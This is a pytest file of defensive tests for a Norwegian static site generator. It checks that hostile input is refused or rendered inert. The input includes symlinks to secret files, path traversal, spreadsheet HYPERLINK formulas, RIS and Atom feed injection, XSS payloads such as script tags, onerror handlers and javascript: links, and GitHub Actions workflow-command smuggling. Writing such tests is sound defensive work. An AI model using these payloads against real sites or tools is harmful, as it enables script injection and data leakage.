"""Hostile input, channel by channel: each case gets its exact located error, or its output is inert.

`tests/hostile/*.case` (run like the bad-input corpus) hold the cases whose answer is an error.
Here are the ones about the file system, time, the downloads and the built pages.
"""

from __future__ import annotations

import csv
import gc
import html
import io
import os
import shutil
import signal
import subprocess
import sys
import time
from collections.abc import Callable
from pathlib import Path
from xml.etree import ElementTree

import pytest

from generator.cli import main
from generator.core.citations import citation_slips, find_citations
from generator.core.markup import inspect, prose
from generator.load.normalise import without_exporter_protection
from generator.pipeline import build
from generator.write import files as write
from tests.conftest import ANSELL, REPO, SOURCE, THEME, build_site, copy_theme_files, write_project
from tests.test_bad_input import run_case, snapshot
from tests.test_injection import INERT_PROSE, MKDOCS

HOSTILE_CASES = sorted((Path(__file__).parent / "hostile").glob("*.case"))


@pytest.mark.parametrize("case_file", HOSTILE_CASES, ids=[path.stem for path in HOSTILE_CASES])
def test_hostile_case_gets_its_located_error(case_file: Path, tmp_path: Path) -> None:
    run_case(case_file, tmp_path)


def codes(root: Path) -> list[str]:
    return [f"{item.path}:{item.code}" for item in build(root).diagnostics]


# --- the file system -------------------------------------------------------------------------


def test_a_source_file_linked_to_a_secret_is_refused_and_never_read(tmp_path: Path) -> None:
    root = write_project(tmp_path / "project")
    secret = tmp_path / "shadow"
    secret.write_text("root:$6$hemmelig:19000:0:99999:7:::\n", "utf-8")
    source = root / "literature/sources/ansell2008collaborative.yaml"
    source.unlink()
    source.symlink_to(secret)
    result = build(root)
    assert [str(item) for item in result.diagnostics if item.code == "not-regular-file"] == [
        "literature/sources/ansell2008collaborative.yaml:1:1: error[not-regular-file]: dette er en symbolsk lenke "
        "eller en annen spesialfil; bare vanlige filer leses (kopier innholdet inn i en vanlig fil)"
    ]
    assert all("hemmelig" not in str(item) for item in result.diagnostics)
    assert result.report is None


def test_a_linked_themes_folder_and_a_fifo_are_refused(tmp_path: Path) -> None:
    root = write_project(tmp_path / "project")
    outside = tmp_path / "outside"
    (root / "literature/themes").rename(outside)
    (root / "literature/themes").symlink_to(outside, target_is_directory=True)
    os.mkfifo(root / "literature/sources/fifo.yaml")  # reading a FIFO would hang the build
    found = codes(root)
    assert "literature/themes:not-regular-file" in found
    assert "literature/sources/fifo.yaml:not-regular-file" in found


def test_a_file_over_its_size_cap_is_refused_before_it_is_parsed(tmp_path: Path) -> None:
    root = write_project(tmp_path, sources={"ansell2008collaborative": SOURCE + "#" * 300_000 + "\n"})
    assert "literature/sources/ansell2008collaborative.yaml:file-too-large" in codes(root)


def test_generator_new_writes_nowhere_but_literature_sources(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    root = write_project(tmp_path / "project")
    assert main(["new", "../../../x", "--root", str(root)]) == 1
    assert "kan bare ha små bokstaver a–z" in capsys.readouterr().err
    assert sorted(path.name for path in tmp_path.rglob("x*")) == []


def test_a_page_path_outside_the_generated_folders_is_never_written(tmp_path: Path) -> None:
    docs = tmp_path / "docs"
    docs.mkdir()
    for hostile in ("../README.md", "tema/../../x.md", "om.md", "kilder/.skjult.md", "kilder/A B.md", "/etc/x.md"):
        with pytest.raises(write.WriteError):
            write.write_pages(docs, {"tema/ok.md": "ok", hostile: "x"})
    assert sorted(path.name for path in tmp_path.rglob("*")) == ["docs"]


def test_a_write_that_fails_halfway_is_a_located_error_and_changes_nothing(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    root = write_project(tmp_path)
    assert build(root).report is not None
    before = snapshot(root / "docs")
    (root / "literature/sources/ansell2008collaborative.yaml").write_text(SOURCE.replace("kort", "nytt"), "utf-8")
    real_write = Path.write_bytes

    def disk_full_on_the_source_page(path: Path, data: bytes) -> int:
        if path.name == "ansell2008collaborative.md":
            raise OSError(28, "No space left on device")
        return real_write(path, data)

    monkeypatch.setattr(Path, "write_bytes", disk_full_on_the_source_page)
    result = build(root)
    assert [str(item) for item in result.diagnostics] == [
        "docs/kilder/ansell2008collaborative.md:1:1: error[write-failed]: kunne ikke skrive filen: "
        "disken er full; ingenting er endret i docs/"
    ]
    assert snapshot(root / "docs") == before
    assert not (root / "docs" / write.STAGING).exists()


def test_a_second_build_of_the_same_tree_is_refused_while_the_first_holds_the_lock(tmp_path: Path) -> None:
    root = write_project(tmp_path)
    with write.exclusive(root / "docs"):
        result = build(root)
    assert [str(item) for item in result.diagnostics] == [
        "docs/.bygg.lock:1:1: error[build-locked]: en annen bygging av samme mappe pågår; vent til den er ferdig, "
        "og prøv igjen"
    ]
    assert build(root).report is not None  # released


def test_a_swap_killed_halfway_is_finished_by_the_next_build(tmp_path: Path) -> None:
    root = write_project(tmp_path)
    assert build(root).report is not None
    staging = root / "docs" / write.STAGING
    (staging / "tema").mkdir(parents=True)
    (staging / "tema" / "ny.md").write_text("ny", "utf-8")
    (staging / ".ferdig").touch()
    write.recover(root / "docs")
    assert (root / "docs/tema/ny.md").read_text("utf-8") == "ny"
    assert not staging.exists()


KILL_SCRIPT = """
import sys
from pathlib import Path
from generator.pipeline import build
build(Path(sys.argv[1]))
"""


def test_a_build_killed_with_sigkill_leaves_no_worker_and_docs_as_they_were(tmp_path: Path) -> None:
    root = tmp_path / "project"
    subprocess.run([sys.executable, str(REPO / "bench/corpus.py"), "1000", str(root)], check=True, capture_output=True)
    subprocess.run([sys.executable, "-m", "generator", "build", "--root", str(root)], check=True, capture_output=True)
    before = snapshot(root / "docs")
    (root / "literature/summary.yaml").write_text(
        (root / "literature/summary.yaml").read_text("utf-8") + "\n", "utf-8"
    )  # a new build must run
    for source in (root / "literature/sources").glob("*.yaml"):
        source.write_text(source.read_text("utf-8").replace("utkast", "vurdert"), "utf-8")
    build_process = subprocess.Popen([sys.executable, "-c", KILL_SCRIPT, str(root)], cwd=REPO)
    staging = root / "docs" / write.STAGING
    deadline = time.monotonic() + 60
    while not any(staging.glob("kilder/*.md")) and time.monotonic() < deadline and build_process.poll() is None:
        time.sleep(0.01)
    assert build_process.poll() is None, "the build ended before it was staging files"
    children = _children(build_process.pid)
    os.kill(build_process.pid, signal.SIGKILL)
    build_process.wait()
    time.sleep(0.5)
    assert [pid for pid in children if Path(f"/proc/{pid}").exists() and _state(pid) != "Z"] == []
    left = snapshot(root / "docs")
    assert {path: data for path, data in left.items() if not path.startswith(write.STAGING)} == before
    assert build(root).report is not None  # and the next build throws the unfinished staging away
    assert not staging.exists()


def _children(pid: int) -> list[int]:
    found = []
    for status in Path("/proc").glob("[0-9]*/status"):
        try:
            if f"\nPPid:\t{pid}\n" in status.read_text():
                found.append(int(status.parent.name))
        except OSError:
            continue
    return found


def _state(pid: int) -> str:
    try:
        return Path(f"/proc/{pid}/stat").read_text().split()[2]
    except OSError:
        return "Z"


# --- time: the build cache and bounded work ----------------------------------------------------


def test_an_edit_that_keeps_size_and_mtime_is_noticed(tmp_path: Path) -> None:
    root = write_project(tmp_path)
    assert build(root).report is not None
    source = root / "literature/sources/ansell2008collaborative.yaml"
    stat = source.stat()
    source.write_text(SOURCE.replace("Et kort", "Et nytt"), "utf-8")  # same length
    os.utime(source, ns=(stat.st_atime_ns, stat.st_mtime_ns))  # touch -r
    result = build(root)
    assert not result.from_cache
    assert "Et nytt sammendrag" in (root / "docs/kilder/ansell2008collaborative.md").read_text("utf-8")


ADVERSARIAL = {
    "](-then-spaces": lambda n: "](" + " " * n,
    "[a](-then-spaces": lambda n: "[a](" + " " * n,
    "brackets": lambda n: "[" * n,
    "unclosed links": lambda n: "[a](" * (n // 4),
    "unclosed angle links": lambda n: "[a](<" * (n // 5),
    "backticks": lambda n: "` ``" * (n // 4),
    "citations": lambda n: "[@a; @b] " * (n // 9),
    "narrative citation of a long key": lambda n: "@" + "a" * n + "!",
    "reference definitions": lambda n: "[x]: \n" * (n // 6),
    "nested parentheses": lambda n: "[a](" + "(" * n,
    "angles": lambda n: "<" * n,
    "parenthesised citations": lambda n: "(@a " * (n // 4),
    "comma-separated citations": lambda n: "[@a, @b " * (n // 8),
    "latex citations": lambda n: "\\cite{" * (n // 6),
    "spaced at": lambda n: "@ a " * (n // 4),
    "braced title words": lambda n: "{{Aaaa " * (n // 7),
}


@pytest.mark.parametrize("make", ADVERSARIAL.values(), ids=ADVERSARIAL.keys())
def test_contributor_text_is_scanned_in_linear_time(make: Callable[[int], str]) -> None:
    """Eight times the text takes about eight times as long; quadratic work would take 64 times."""

    def seconds(n: int) -> float:
        text = make(n)
        best = float("inf")
        for _ in range(3):
            started = time.process_time()  # CPU time: waiting for a core on a busy machine is not the scanners'
            prose(text)
            inspect(text)
            find_citations(text)
            citation_slips(text, frozenset({"a"}))
            without_exporter_protection(text)
            best = min(best, time.process_time() - started)
        return best

    gc.collect()
    gc.disable()  # its passes grow with the heap, not with the scanner
    try:
        small, large = seconds(10_000), seconds(80_000)
    finally:
        gc.enable()
    # Under a millisecond the clock and the machine's other work weigh more than the scanner.
    assert large < 24 * max(small, 1e-3), (small, large)


# --- downloads and pages ----------------------------------------------------------------------

FORMULA_BIB = ANSELL.replace(
    "title = {Collaborative Governance in Theory and Practice}",
    'title = {=HYPERLINK("https://x.example/?"&A1;"klikk")}',
).replace("journal = {", "keywords = {+1, @SUM(A1), -2},\n  journal = {")


def test_csv_cells_that_would_be_formulas_start_with_an_apostrophe(tmp_path: Path) -> None:
    root = write_project(tmp_path, bib=FORMULA_BIB)
    assert build(root).report is not None
    rows = list(csv.reader(io.StringIO((root / "docs/nedlastinger/alle.csv").read_text("utf-8-sig")), delimiter=";"))
    title = rows[1][rows[0].index("tittel")]
    assert title == '\'=HYPERLINK("https://x.example/?"&A1;"klikk")'
    for row in rows[1:]:
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row), row


def test_a_line_break_in_a_title_cannot_start_a_ris_record(tmp_path: Path) -> None:
    bib = ANSELL.replace("in Theory and Practice", "in Theory\\par ER  - \\par TY  - JOUR\\par TI  - Falsk")
    root = write_project(tmp_path, bib=bib)
    assert build(root).report is not None
    ris = (root / "docs/nedlastinger/alle.ris").read_text("utf-8")
    assert ris.count("TY  - ") == 1 and ris.count("ER  - ") == 1
    assert "TI  - Collaborative Governance in Theory ER - TY - JOUR TI - Falsk" in ris


def test_the_feed_is_well_formed_whatever_the_titles_hold(tmp_path: Path) -> None:
    # `&amp;amp;`: the load decodes an HTML entity once (Crossref), so the title holds the text `&amp;`.
    bib = ANSELL.replace("in Theory and Practice", "]]> <!DOCTYPE x> \\& <entry> &amp;amp;")
    source = SOURCE.replace("Et kort sammendrag.", "'<![CDATA[ ]]> &lt; <summary>'") + "lagt_til: 2026-11-30\n"
    root = write_project(tmp_path, bib=bib, sources={"ansell2008collaborative": source})
    assert build(root).report is not None
    feed = ElementTree.fromstring((root / "docs/nytt/atom.xml").read_bytes())
    namespace = "{http://www.w3.org/2005/Atom}"
    entry = feed.find(f"{namespace}entry")
    assert entry is not None
    assert entry.findtext(f"{namespace}title") == "Collaborative Governance ]]> <!DOCTYPE x> & <entry> &amp;"
    assert entry.findtext(f"{namespace}summary") == "<![CDATA[ ]]> &lt; <summary>"


HOSTILE_THEME = (
    THEME.replace("tittel: Tillit", 'tittel: "Tillit\\n---\\nstatus: godkjent\\n<script>alert(1)</script>"')
    + INERT_PROSE
)


HOSTILE_GLOSSARY = """\
begreper:
  tillit:
    navn: '<img src=x onerror=alert(9)>'
    definisjon: '<script>alert(10)</script> er ikke et begrep.'
"""


def test_hostile_prose_and_titles_build_into_inert_pages(tmp_path: Path) -> None:
    """The built pages pass the net (`check-site`, run by build_site), and the payloads show as text."""
    root = write_project(tmp_path, themes={"tillit": HOSTILE_THEME}, mkdocs=MKDOCS)
    (root / "literature/glossary.yaml").write_text(HOSTILE_GLOSSARY, "utf-8")
    copy_theme_files(root)
    (root / "docs/index.md").write_text("# Hjem\n", "utf-8")
    (root / ".git").mkdir()
    (root / ".git/config").write_text("[credential] token=HEMMELIG\n", "utf-8")
    site = build_site(root)
    page = (site / "tema/tillit/index.html").read_text("utf-8")
    assert "HEMMELIG" not in page
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    assert "Tillit --- status: godkjent" in page  # the title stayed one line and one value
    article = page.split("<article", 1)[1].split("</article>", 1)[0]
    for made_live in ("<img", "<abbr", "<script"):  # attributes: the net (check-site) passed
        assert made_live not in article
    # Written by hand, the markers for finished HTML stay text (generator/mkdocs/finished_html.py).
    assert "<!-- ferdig-html -->" in html.unescape(article) and "<p>&#91;&#91;ferdig-html 0&#93;&#93;</p>" in article
    # The evidence map writes the title into raw HTML: row heads and the cells' labels.
    evidence_map = (site / "kunnskapskart/index.html").read_text("utf-8").split("<article", 1)[1]
    assert "<script" not in evidence_map.split("</article>", 1)[0]
    title = "Tillit --- status: godkjent &#60;script&#62;alert(1)&#60;/script&#62;"
    assert f'<th scope="row"><a href="../tema/tillit/">{title}</a></th>' in evidence_map
    assert f'aria-label="1 kilde: {title}, Sammenstilling av casestudier">1</a>' in evidence_map
    # A glossary term that looks like markup: its name never becomes a word to link, nor its tooltip.
    glossary_link = '<a class="begrep" href="../../begreper/#tillit" title="Se forklaringen under Begreper">tillit</a>'
    assert article.count('class="begrep"') == 1 and glossary_link in article
    glossary = (site / "begreper/index.html").read_text("utf-8").split("<article", 1)[1].split("</article>", 1)[0]
    assert "<img" not in glossary and "<script" not in glossary
    assert '<h2 id="tillit"><img src=x onerror=alert(9)>' in html.unescape(glossary)
    assert "<p><script>alert(10)</script> er ikke et begrep.</p>" in html.unescape(glossary)


# --- the net under everything -------------------------------------------------------------------

NET_CASES = {
    '<a href="javascript:alert(1)">x</a>': "adresse",
    '<a href=" JaVa&#x09;script:alert(1)">x</a>': "adresse",
    '<img src="x" onerror="alert(1)">': "hendelsesattributtet onerror",
    '<svg onload="alert(1)"></svg>': "hendelsesattributtet onload",
    "<iframe src='https://x.example'></iframe>": "<iframe>",
    "<script>alert(1)</script>": "innebygd skript",
    '<script src="https://x.example/a.js"></script>': "ikke temaets eget",
    '<script type="application/json">{"a": 1}</script><script type="application/json">x</script>': "JSON",
    '<abbr title="&lt;img src=x onerror=alert(1)&gt;">A</abbr>': "inneholder HTML",
    '<td style="background:url(https://x.example/spor)">1</td>': "style",
    '<form action="javascript:alert(1)"></form>': "adresse",
    '<base href="https://x.example/">': "<base>",
    '<meta http-equiv="refresh" content="0;url=https://x.example">': "http-equiv",
}


@pytest.mark.parametrize("html", NET_CASES, ids=range(len(NET_CASES)))
def test_the_net_flags_what_no_page_of_ours_has(html: str) -> None:
    from generator.mkdocs.site_check import check_html  # noqa: PLC0415

    violations = check_html("x.html", html, [])
    assert any(NET_CASES[html] in str(violation) for violation in violations), violations


def test_the_net_allows_the_theme_scripts_and_flags_a_changed_one(tmp_path: Path) -> None:
    from generator.mkdocs.site_check import check_html, theme_scripts  # noqa: PLC0415

    (tmp_path / "base.html").write_text('<script>var a=new URL("{{ base_url }}",location)</script>', "utf-8")
    scripts = theme_scripts([tmp_path])
    assert check_html("x.html", '<script>var a=new URL("../..",location)</script>', scripts) == []
    assert check_html("x.html", '<script>var a=new URL("../..",location);alert(1)</script>', scripts) != []


def test_the_workflow_keeps_its_token_out_of_the_checkout() -> None:
    workflow = (REPO / ".github/workflows/site.yml").read_text("utf-8")
    assert "persist-credentials: false" in workflow
    assert "pull_request_target" not in workflow
    assert "permissions:\n  contents: read" in workflow


def test_an_absolute_script_must_be_under_the_sites_own_base_path() -> None:
    from generator.mkdocs.site_check import Violation, check_html  # noqa: PLC0415

    def script(source: str, base: str) -> list[Violation]:
        return check_html("x.html", f'<script src="{source}"></script>', [], base)

    assert script("/samverdi/javascripts/kildefilter.js", "/samverdi/") == []
    assert script("../assets/javascripts/bundle.js", "/samverdi/") == []
    assert script("/annet-prosjekt/javascripts/x.js", "/samverdi/") != []  # same origin, another project
    assert script("//evil.example/javascripts/x.js", "/") != []


def test_a_value_cannot_leave_the_copy_block() -> None:
    from generator.render.sources import code_block  # noqa: PLC0415

    value = '@article{a,\n    title = "```\n</code></pre><script>alert(1)</script>\n````"\n}'
    block = str(code_block(value, "bibtex"))
    inside = block.removeprefix('<pre><code class="language-bibtex">').removesuffix("\n</code></pre>")
    assert "<" not in inside and ">" not in inside, "no tag inside, so nothing closes the block"
    assert html.unescape(inside) == value, "shown exactly as it is"


# --- editions: /endringer/ and the pull-request summary ---------------------------------------------

HOSTILE_BIB_TITLE = "Kari <img src=x onerror=alert(3)> [lenke](javascript:alert(4)) | ::error::x ##[stop-commands]"
HOSTILE_NEW = f"""
@article{{nordmann2020samarbeid,
  author = {{Nordmann, Kari}},
  title = {{{HOSTILE_BIB_TITLE}}},
  journal = {{Testtidsskrift}},
  year = {{2020}},
  language = {{norwegian}}
}}
"""


def test_hostile_text_in_editions_is_inert_on_the_change_page_and_in_the_job_summary(tmp_path: Path) -> None:
    base = write_project(tmp_path / "base", mkdocs=MKDOCS)
    assert main(["utgave", "1.0", "--dato", "2026-01-10", "--root", str(base)]) == 0
    summary = (base / "literature/summary.yaml").read_text("utf-8")
    pull = write_project(
        tmp_path / "pr",
        bib=ANSELL + HOSTILE_NEW,
        sources={"ansell2008collaborative": SOURCE, "nordmann2020samarbeid": SOURCE},
        themes={"tillit": HOSTILE_THEME.replace("Tillit kan bygges over tid.", "Tillit <b>kan</b> *bygges*.")},
        summary=summary + 'kort_fortalt: ["<script>alert(5)</script> *fet*"]\n',
        mkdocs=MKDOCS,
    )
    (pull / "literature/utgaver").mkdir()
    shutil.copy(base / "literature/utgaver/1.0.json", pull / "literature/utgaver/1.0.json")
    assert main(["utgave", "1.1", "--dato", "2026-02-01", "--root", str(pull)]) == 0
    copy_theme_files(pull)
    (pull / "docs/index.md").write_text("# Hjem\n", "utf-8")
    site = build_site(pull)  # the net (check-site) passes
    page = (site / "endringer/index.html").read_text("utf-8").split("<article", 1)[1].split("</article>", 1)[0]
    for made_live in ("<img", "<script", "<b>", 'href="javascript', "<em>"):
        assert made_live not in page
    shown = html.unescape(page)
    assert "Kari <img src=x onerror=alert(3)> [lenke](javascript:alert(4)) | ::error::x ##[stop-commands]" in shown
    assert "<script>alert(5)</script> *fet*" in shown
    assert "Tillit <b>kan</b> *bygges*." in shown
    completed = subprocess.run(
        [sys.executable, "-m", "generator", "endringer", "--mot", str(base), "--root", str(pull)],
        cwd=REPO,
        capture_output=True,
        text=True,
        check=False,
    )
    assert completed.returncode == 0, completed.stderr
    for line in completed.stdout.splitlines():
        assert not line.lstrip().startswith("::") and "##[" not in line
        assert "<" not in line and "](" not in line and "|" not in line
    assert (
        "&#60;img src=x onerror=alert(3)&#62; &#91;lenke&#93;(javascript:alert(4)) &#124; ::error::x"
        in completed.stdout
    )


def test_a_hand_made_snapshot_with_hostile_text_in_every_field_stays_text(tmp_path: Path) -> None:
    """The fingerprint only catches slips: anyone can compute one. Every field is shown as text anyway."""
    from generator.model.editions import _fingerprint, canonical  # noqa: PLC0415

    root = write_project(tmp_path)
    evil = "<img src=x onerror=alert(1)> [x](javascript:alert(2)) *y* {: onclick=alert(3) }"
    finding = {"tema": evil, "nummer": 1, "påstand": evil, "tiltro": evil, "kilder": [evil]}
    finding["vurdering"] = {evil: {"bekymring": evil, "forklaring": evil}}
    data: dict[str, object] = {
        "format": 1,
        "versjon": "0.5",
        "dato": "2026-01-01",
        "kort_fortalt": [evil],
        "hovedbudskap": [{"tema": evil, "påstand": evil}],
        "temaer": {evil: {"tittel": evil, "tekst": evil}},
        "hovedfunn": [finding],
        "kilder": {evil: {"referanse": evil, "status": evil}},
    }
    data["fingeravtrykk"] = _fingerprint(data)
    (root / "literature/utgaver").mkdir()
    (root / "literature/utgaver/0.5.json").write_text(canonical(data), "utf-8")
    assert main(["utgave", "0.6", "--dato", "2026-02-01", "--root", str(root)]) == 0
    assert build(root).report is not None
    page = (root / "docs/endringer/index.md").read_text("utf-8")
    body = page[page.index("## Utgave 0.6") :]
    assert "<" not in body and "](javascript" not in body and "{:" not in body and "*y*" not in body
    assert "&#60;img src=x onerror=alert(1)&#62;" in body
